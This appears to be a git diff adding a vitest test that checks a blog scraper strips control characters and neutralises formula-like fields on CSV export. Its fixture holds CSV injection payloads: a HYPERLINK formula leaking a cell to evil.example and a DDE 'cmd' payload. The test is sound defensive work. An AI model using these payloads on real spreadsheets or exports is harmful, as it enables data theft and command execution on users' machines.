@@ -3,6 +3,7 @@ import http from "node:http";
 import type { AddressInfo, Socket } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { SCRAPER } from "#app/lib/constants.ts";
+import { hasControlCharacters } from "#app/lib/control-characters.ts";
 import { parseCsv } from "#app/lib/csv.ts";
 import { scrapedPostsToCsv, validateImportRow } from "#app/lib/post-import.ts";
 import { extractPost, ScrapeRequestError, scrapePosts, type ScrapeOptions } from "./scraper.server.ts";
@@ -141,6 +142,30 @@ describe("extractPost: every extraction rule", () => {
       canonical_url: "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/",
       featured: false,
     });
+  });
+
+  it("drops control characters from every text it takes, and keeps formula-like text for the CSV to neutralise (issue 13)", () => {
+    const post = extractPost(fixture("hostile-article"), "https://lakesideliving.example/blog/hostile-article/");
+    expect(post).toMatchObject({
+      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      excerpt: "+cmd|' /C calc'!A0 and a bell in the excerpt",
+      author_name: "@Jordan Ellis",
+      categories: ["-Boating"],
+      tags: ["'quoted tag"],
+    });
+    expect(post.content_html).toContain("control characters into the CSV");
+    expect(post.content_html).toContain("a backspace and an escape that");
+    for (const [field, value] of Object.entries(post)) {
+      const texts = typeof value === "string" ? [value] : Array.isArray(value) ? value : [];
+      for (const text of texts) expect(hasControlCharacters(text, { multiline: field === "content_html" }), field).toBe(false);
+    }
+    const csv = scrapedPostsToCsv([post]);
+    const [line] = csv.split("\r\n").slice(1);
+    for (const cell of ['"\'=HYPERLINK(', ",'@Jordan Ellis,", ",'-Boating,", ",'+cmd|' /C calc'!A0"]) expect(line).toContain(cell);
+    const [row] = parseCsv(csv).rows;
+    const imported = validateImportRow(row ?? {}, 1, { now: new Date(), agentName: "Meredith Vance" });
+    expect(imported.errors).toEqual([]);
+    expect(imported.data).toMatchObject({ title: post.title, excerpt: post.excerpt, authorName: "@Jordan Ellis", categories: ["-Boating"], tags: ["'quoted tag"] });
   });
 
   it("keeps only the sanitised article body, with absolute links and images", () => {
